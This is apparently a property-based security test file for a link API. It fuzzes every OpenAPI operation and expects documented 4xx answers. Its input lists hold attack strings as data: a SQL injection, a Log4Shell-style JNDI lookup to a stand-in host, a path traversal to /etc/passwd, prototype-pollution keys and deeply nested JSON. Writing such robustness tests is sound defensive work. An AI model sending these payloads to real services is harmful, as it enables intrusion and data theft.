import { createApp } from '#functions/api/create-app.ts';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { fc } from '#test/property.ts';
import { type OpenApi, type Operation, operationsOf, readDocument } from './openapi-client.ts';
import { startWorld, type World } from './world.ts';

/** Every operation of the OpenAPI document, with input that nobody means well with. */

let world: World;
/** Without the limit of requests a minute, which would answer most of them. */
let app: World['app'];
let document: OpenApi;
beforeAll(async () => {
  world = await startWorld();
  app = createApp({ ...world.deps, rate: () => Promise.resolve(true) });
  document = await readDocument(world);
});
afterAll(() => world.stop());

const deep = '['.repeat(20_000) + ']'.repeat(20_000);

it.each([
  ['half of a surrogate pair', '{"title":"\\ud800"}', 'title'],
  ['NUL', '{"title":"a\\u0000b"}', 'title'],
  ['a name of the prototype', '{"utm":{"__proto__":"x"}}', 'utm.__proto__'],
  ['a constructor', '{"constructor":{"prototype":1}}', 'constructor'],
  ['deep JSON', `{"utm":${deep}}`, `utm${'[0]'.repeat(7)}`],
  ['deep lists', deep, `body${'[0]'.repeat(8)}`],
  ['no JSON', '{', 'body'],
  ['a title of a megabyte', JSON.stringify({ title: 'x'.repeat(1_300_000) }), 'title'],
])('%s is the caller’s error, and names the field', async (_name, body, field) => {
  const answer = await world.app.request('/api/v1/links/k3x9', {
    method: 'PATCH',
    headers: { authorization: 'Bearer root', 'content-type': 'application/json' },
    body,
  });
  expect(answer.status).toBe(400);
  expect(await answer.json()).toMatchObject({ errors: expect.arrayContaining([expect.objectContaining({ field })]) });
});

it('accepts a body at the limit, and refuses one past it', async () => {
  async function statusOf(bytes: number): Promise<number> {
    const text = '{"title":"T"}';
    const body = text + ' '.repeat(bytes - text.length);
    const headers = { authorization: 'Bearer root', 'content-type': 'application/json' };
    return (await world.app.request('/api/v1/links/k3x9', { method: 'PATCH', headers, body })).status;
  }
  expect([await statusOf(2_100_000), await statusOf(2_100_001)]).toEqual([200, 413]);
});

it.each(['pages/ada/stats?country=A%00', 'pages/ada/stats?country=%0A', 'links/%00', 'links?search=%7F'])(
  '%s is the caller’s error',
  async (path) => {
    expect((await world.ask('root', path)).status).toBeGreaterThanOrEqual(400);
    expect((await world.ask('root', path)).status).toBeLessThan(500);
  },
);

/** Values of parameters that a request with dates needs. */
const examples: Readonly<Record<string, string>> = { codes: 'k3x9', outcome: 'bot' };

/** Dates that calendars and stores no longer compute with are refused wherever a request names one, before anything is read. */
it('accepts the first and the last date, and refuses the ones beyond', async () => {
  const dated = operationsOf(document).filter(
    // A share that does not exist is not found, whatever it is asked.
    ({ path, parameters }) => !path.includes('/shares/') && parameters.some(({ name }) => name === 'from'),
  );
  expect(dated.length).toBeGreaterThan(8);
  for (const operation of dated) {
    const path = operation.path
      .replace('{code}', 'k3x9')
      .replace('{agency}', 'north')
      .replace(/\{\w+\}/, 'ada');
    const others = operation.parameters.flatMap(({ name, required }) =>
      required && name in examples ? [`&${name}=${examples[name]}`] : [],
    );
    for (const date of ['0000-01-01', '1969-12-31', '3000-01-01', '9999-12-31']) {
      const answer = await ask(`${path}?from=${date}&to=${date}${others.join('')}`);
      expect([path, date, answer.status]).toEqual([path, date, 400]);
      expect(JSON.stringify(await answer.json())).toContain('a date from 1970-01-01 to 2999-12-31');
    }
    for (const date of ['1970-01-01', '2999-12-31'])
      expect((await ask(`${path}?from=${date}&to=${date}${others.join('')}`)).status).toBeLessThan(500);
  }
});

it.each(['from', 'to'])('a campaign has no date %s beyond the calendar', async (field) => {
  const body = { page: '/ada', name: 'Old', label: 'old', from: '2026-11-01', to: '2026-11-02', [field]: '9999-12-31' };
  const answer = await app.request('/api/v1/campaigns', {
    method: 'POST',
    headers: { authorization: 'Bearer root', 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  expect(answer.status).toBe(400);
});

function ask(path: string) {
  return app.request(path, { headers: { authorization: 'Bearer root' } });
}

/** Texts that break parsers, stores and query languages. */
const texts = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    "' OR 1=1 --",
    '$' + '{jndi:ldap://a.example}',
    '../../etc/passwd',
    '\u{202E}gpj',
    '\uFEFF',
    '%00',
    '\u0000',
    '\ud800',
    'null',
    '-0',
    '1e400',
    '2026-02-30',
    '9999-12-31T23:59:59Z',
    '__proto__',
    'ada',
    '/ada',
    'k3x9',
    'x'.repeat(3_000),
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const values = fc.oneof(
  { depthSize: 'small', withCrossShrink: true },
  texts,
  fc.constantFrom(null, true, 0, -1, 1e21, Number.MAX_SAFE_INTEGER + 2, 0.1),
  fc.array(texts, { maxLength: 3 }),
  fc.dictionary(texts, texts, { maxKeys: 3 }),
);

interface Sent {
  operation: Operation;
  path: Record<string, string>;
  query: Record<string, string | undefined>;
  body: unknown;
}

function requestOf(operation: Operation): fc.Arbitrary<Sent> {
  const names = operation.parameters.filter((parameter) => parameter.in === 'query').map(({ name }) => name);
  const inPath = operation.parameters.filter((parameter) => parameter.in === 'path').map(({ name }) => name);
  const fields = fieldsOf(operation);
  return fc.record({
    operation: fc.constant(operation),
    path: fc.record(Object.fromEntries(inPath.map((name) => [name, texts]))),
    query: fc.record(Object.fromEntries(names.map((name) => [name, texts])), { requiredKeys: [] }),
    body: fc.oneof(fc.record(Object.fromEntries(fields.map((name) => [name, values])), { requiredKeys: [] }), values),
  });
}

/** Returns the names of the fields of an operation's body. */
function fieldsOf({ requestBody }: Operation): string[] {
  const schema = requestBody?.content['application/json']?.schema ?? {};
  const name = typeof schema['$ref'] === 'string' ? schema['$ref'].replace('#/components/schemas/', '') : '';
  const { properties } = document.components.schemas[name] ?? schema;
  return typeof properties === 'object' && properties !== null ? Object.keys(properties) : [];
}

async function send({ operation, path, query, body }: Sent): Promise<number> {
  const url = Object.entries(path).reduce(
    (text, [name, value]) => text.replace(`{${name}}`, encodeURIComponent(value.toWellFormed())),
    operation.path,
  );
  const parameters = new URLSearchParams(
    Object.entries(query).map(([name, value = '']) => [name, value.toWellFormed()]),
  );
  const answer = await app.request(`${url}?${parameters}`, {
    method: operation.method.toUpperCase(),
    headers: { authorization: 'Bearer root', 'content-type': 'application/json' },
    ...(operation.requestBody !== undefined && { body: JSON.stringify(body) }),
  });
  return answer.status;
}

it('answers whatever is sent with a status that the document names, and never with a failure of its own', async () => {
  // Their clients are not local.
  const jobs = new Set(['createExport', 'createErasure']);
  const operations = operationsOf(document).filter(({ operationId }) => !jobs.has(operationId));
  const sent = fc.constantFrom(...operations).chain(requestOf);
  await fc.assert(
    fc.asyncProperty(sent, async (request) => {
      const status = await send(request);
      expect(Object.keys(request.operation.responses), `${request.operation.operationId} ${status}`).toContain(
        String(status),
      );
      expect(status).toBeLessThan(500);
      expect(status).not.toBe(429);
    }),
    { numRuns: Number(process.env['RUNS'] ?? 1_500) },
  );
});
